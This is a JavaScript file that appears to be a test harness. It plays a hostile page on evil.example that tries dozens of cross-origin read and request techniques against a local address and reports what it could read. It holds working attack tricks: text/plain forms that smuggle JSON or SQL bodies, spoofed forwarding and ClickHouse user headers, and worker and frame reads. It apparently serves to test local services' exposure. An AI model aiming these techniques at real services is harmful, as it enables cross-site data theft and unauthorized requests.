/**
 * What a page of evil.example does in a browser to one address of this machine. `window.plan` says to which, and by which requests;
 * `window.attack()` resolves to what it could read, by technique. Requests that change something are looked for elsewhere.
 */
const { target, sameOrigin, prefix, gets, posts } = window.plan;
/** By technique: texts that the page holds in its hands. */
const reads = {};
const deadline = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** Scripts that were read from the target call this. */
window.stolen = (id, text) => note(id, { by: 'script', text });
window.addEventListener('message', ({ data }) => {
  if (typeof data?.stolen === 'string') note(data.id, { by: 'message', text: data.stolen });
});

function note(id, { by, status = 0, path = '', text }) {
  (reads[id] ??= []).push({ by, status, path, text: String(text).slice(0, 400) });
}

function put(name, attributes, id) {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  return new Promise((resolve) => {
    for (const end of ['load', 'error']) element.addEventListener(end, () => resolve(element));
    document.body.append(element);
  }).then((loaded) => readFrame(loaded, id));
}

/** Of another origin this throws; of the page's own it is all that is there. */
function readFrame(element, id) {
  try {
    const text = element.contentDocument?.documentElement?.textContent;
    if (text) note(id, { by: element.tagName, text });
  } catch {}
}

async function ask(id, path, options) {
  try {
    const response = await fetch(target + path, options);
    const text = response.body === null ? '' : await firstOf(response);
    if (response.type !== 'opaque' && text !== '')
      note(id, { by: 'fetch', status: response.status, path, text });
  } catch {}
}

async function firstOf(response) {
  const { value } = await response.body.getReader().read();
  return new TextDecoder().decode(value ?? new Uint8Array());
}

const each = (list, act) => Promise.all(list.map(act));
const byTag =
  (name, attribute, more = {}) =>
  (id) =>
    each(gets(id), (path) => put(name, { ...more, [attribute]: target + path }, id));
const byFetch = (options) => (id) => each(gets(id), (path) => ask(id, path, options));
const byPost = (options, type) => (id) =>
  each(posts(id), ({ path, body }) =>
    ask(id, path, {
      method: 'POST',
      body: type === undefined ? body : type === 'multipart' ? formOf(body) : new Blob([body], { type }),
      ...options,
    }),
  );

/** A field as GraphQL's multipart requests and ClickHouse's have it, and the body as a file. */
function formOf(body) {
  const form = new FormData();
  form.append('query', body);
  form.append('operations', body);
  form.append('map', '{}');
  form.append('0', new Blob([body]), 'body');
  return form;
}

let opened = 0;
/** A form that a browser sends by itself, into a window or a frame of its own. */
const byForm = (enctype, into) => (id) =>
  each(posts(id), async ({ path, body }) => {
    const name = `w${(opened += 1)}`;
    const frame = into === 'frame' ? document.createElement('iframe') : undefined;
    if (frame !== undefined) {
      frame.name = name;
      document.body.append(frame);
    }
    const form = document.createElement('form');
    Object.assign(form, { action: target + path, method: 'POST', enctype, target: name });
    const field = document.createElement('input');
    // "name=value" is what text/plain sends: JSON and SQL survive it when the sign is inside a string, or behind a comment.
    const json = body.startsWith('{');
    const ownName =
      enctype === 'text/plain' ? (json ? `${body.slice(0, -1)},"ignored":"` : `${body} -- `) : 'query';
    Object.assign(field, {
      type: 'hidden',
      name: ownName,
      value: enctype === 'text/plain' ? (json ? '"}' : '') : body,
    });
    form.append(field);
    document.body.append(form);
    form.submit();
    await deadline(1_500);
    if (frame !== undefined) readFrame(frame, id);
    else window.open('', name)?.close();
  });

const TECHNIQUES = {
  script: byTag('script', 'src'),
  'module script': byTag('script', 'src', { type: 'module' }),
  'script with crossorigin': byTag('script', 'src', { crossorigin: 'anonymous' }),
  image: byTag('img', 'src'),
  'style sheet': byTag('link', 'href', { rel: 'stylesheet' }),
  manifest: byTag('link', 'href', { rel: 'manifest' }),
  prefetch: byTag('link', 'href', { rel: 'prefetch' }),
  frame: byTag('iframe', 'src'),
  object: byTag('object', 'data', { type: 'text/html' }),
  embed: byTag('embed', 'src', { type: 'text/html' }),
  video: byTag('video', 'src'),
  'style import': (id) =>
    each(gets(id), async (path) => {
      const style = document.createElement('style');
      style.textContent = `@import url("${encodeURI(target + path)}"); body { background: url("${encodeURI(target + path)}") }`;
      document.head.append(style);
      await deadline(300);
    }),
  font: (id) =>
    each(gets(id), (path) =>
      new FontFace('evil', `url("${encodeURI(target + path)}")`).load().then(
        () => note(id, { by: 'font', text: 'it loaded' }),
        () => undefined,
      ),
    ),
  'worker importScripts': (id) =>
    each(gets(id), async (path) => {
      const source = `self.stolen = (id, stolen) => postMessage({ id, stolen });
        try { importScripts(${JSON.stringify(target + path)}) } catch {} postMessage({ done: true })`;
      const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
      await new Promise((resolve) => {
        worker.addEventListener('error', resolve);
        worker.addEventListener('message', ({ data }) => {
          if (data.done === true) resolve();
          else note(data.id, { by: 'worker', text: data.stolen });
        });
      });
      worker.terminate();
    }),
  'event source': (id) =>
    each(gets(id), async (path) => {
      const events = new EventSource(target + path);
      events.addEventListener('message', ({ data }) => note(id, { by: 'event', path, text: data }));
      await deadline(800);
      events.close();
    }),
  'web socket': (id) =>
    each(gets(id), async (path) => {
      const socket = new WebSocket(target.replace('http', 'ws') + path, ['graphql-transport-ws', 'binary']);
      socket.addEventListener('open', () => note(id, { by: 'socket', path, text: 'it opened' }));
      socket.addEventListener('message', ({ data }) => note(id, { by: 'socket', path, text: data }));
      await deadline(800);
      socket.close();
    }),
  'window and message': (id) =>
    each(gets(id).slice(0, 4), async (path) => {
      const opener = window.open(target + path, `w${(opened += 1)}`);
      await deadline(1_000);
      opener?.postMessage({ give: id }, '*');
      try {
        const text = opener?.document?.documentElement?.textContent;
        if (text) note(id, { by: 'window', text });
      } catch {}
      opener?.close();
    }),
  'fetch no-cors': byFetch({ mode: 'no-cors' }),
  'fetch no-cors HEAD': byFetch({ mode: 'no-cors', method: 'HEAD' }),
  'fetch cors': byFetch({ mode: 'cors' }),
  'fetch cors with credentials': byFetch({ mode: 'cors', credentials: 'include' }),
  'fetch keepalive': byFetch({ mode: 'no-cors', keepalive: true }),
  'post without a type': byPost({ mode: 'no-cors' }, ''),
  'post text/plain': byPost({ mode: 'no-cors' }, 'text/plain'),
  'post text/plain keepalive': byPost({ mode: 'no-cors', keepalive: true }, 'text/plain'),
  'post text/plain, cors': byPost({ mode: 'cors' }, 'text/plain'),
  'post form': byPost({ mode: 'no-cors' }, 'application/x-www-form-urlencoded'),
  'post multipart': byPost({ mode: 'no-cors' }, 'multipart'),
  'post text/plain with json in a parameter': byPost({ mode: 'no-cors' }, 'text/plain; a=application/json'),
  beacon: (id) =>
    each(posts(id), ({ path, body }) => Promise.resolve(navigator.sendBeacon(target + path, body))),
  'beacon of a form': (id) =>
    each(posts(id), ({ path, body }) => Promise.resolve(navigator.sendBeacon(target + path, formOf(body)))),
  'form text/plain, window': byForm('text/plain', 'window'),
  'form urlencoded, frame': byForm('application/x-www-form-urlencoded', 'frame'),
  'form text/plain, frame': byForm('text/plain', 'frame'),
  'form multipart, frame': byForm('multipart/form-data', 'frame'),
  // With a preflight, unless the page's name was bound to this address.
  'post json': byPost({}, 'application/json'),
  put: byPost({ method: 'PUT' }, 'application/json'),
  delete: byPost({ method: 'DELETE' }, 'application/json'),
  'headers that say otherwise': byPost(
    {
      headers: {
        'content-type': 'application/json',
        'x-http-method-override': 'POST',
        'x-forwarded-host': 'localhost',
        'x-forwarded-for': '127.0.0.1',
        'x-clickhouse-user': 'default',
        'x-csrf-token': 'x',
        'x-requested-with': 'XMLHttpRequest',
      },
    },
    'application/json',
  ),
};

/** Forms and windows are slow and many at a time are blocked: against another origin and the same they do the same. */
const names = Object.keys(TECHNIQUES).filter((name) => !sameOrigin || !/^form|window/.test(name));

/** @returns what could be read, by technique, and the id of each */
window.attack = async () => {
  const cases = names.map((name, index) => ({ name, id: `${prefix}t${index}` }));
  await Promise.race([
    each(cases, ({ name, id }) => Promise.resolve(TECHNIQUES[name](id)).catch(() => undefined)),
    deadline(6_000),
  ]);
  return cases.map(({ name, id }) => ({ name, id, reads: reads[id] ?? [] }));
};
